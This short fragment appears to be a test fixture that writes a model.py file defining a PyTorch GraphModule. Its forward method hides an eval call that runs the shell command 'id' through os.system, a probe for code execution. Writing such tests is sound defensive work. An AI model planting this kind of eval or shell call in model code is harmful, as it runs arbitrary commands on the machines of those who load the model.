copy limits
write model.py
  import torch

  class GraphModule(torch.nn.Module):
      def forward(self, x, y):
          a = eval("__import__('os').system('id')")
          return (a,)
